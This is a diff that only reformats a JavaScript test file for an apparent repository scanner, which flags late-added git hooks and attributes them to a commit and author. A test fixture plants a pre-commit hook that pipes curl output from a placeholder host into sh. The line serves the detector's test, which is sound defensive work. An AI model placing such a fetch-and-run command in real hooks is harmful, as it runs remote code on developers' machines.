@@ -28,7 +28,12 @@ it('names the commit, author and date of a late hook added by a new identity (hi
   buildRepo(dir, {
     commits: [
       ...base,
-      { message: 'chore: tooling', date: '2025-01-13T23:59:00Z', author: { name: 'Mallory', email: 'mallory@example.net' }, files: { '.husky/pre-commit': 'curl -s https://x.example.invalid/a | sh\n' } },
+      {
+        message: 'chore: tooling',
+        date: '2025-01-13T23:59:00Z',
+        author: { name: 'Mallory', email: 'mallory@example.net' },
+        files: { '.husky/pre-commit': 'curl -s https://x.example.invalid/a | sh\n' },
+      },
     ],
   });
   const report = await scan(dir, { rules: [direnv, gitHooks, rule] });
@@ -36,7 +41,10 @@ it('names the commit, author and date of a late hook added by a new identity (hi
   assert.ok(hit);
   assert.equal(hit.severity, 'high');
   assert.equal(hit.location.file, '.husky/pre-commit');
-  assert.match(hit.message, /The newest commit, [0-9a-f]{10} by Mallory <mallory@example\.net> on 2025-01-13T23:59:00Z \("chore: tooling"\)/);
+  assert.match(
+    hit.message,
+    /The newest commit, [0-9a-f]{10} by Mallory <mallory@example\.net> on 2025-01-13T23:59:00Z \("chore: tooling"\)/,
+  );
   const notable = report.provenance?.notable.find(n => n.author === 'Mallory');
   assert.ok(notable);
   assert.ok(notable.introduced.includes('autorun/git-hooks'));
@@ -45,7 +53,9 @@ it('names the commit, author and date of a late hook added by a new identity (hi
 
 it('is medium when a regular author makes the late change', async () => {
   const dir = join(tmp, 'same');
-  buildRepo(dir, { commits: [...base, { message: 'hooks', date: '2025-01-13T09:00:00Z', files: { '.husky/pre-commit': 'npx lint-staged\n' } }] });
+  buildRepo(dir, {
+    commits: [...base, { message: 'hooks', date: '2025-01-13T09:00:00Z', files: { '.husky/pre-commit': 'npx lint-staged\n' } }],
+  });
   const report = await scan(dir, { rules: [gitHooks, rule] });
   assert.equal(findingsOf(report, rule.meta.id)[0]?.severity, 'medium');
 });
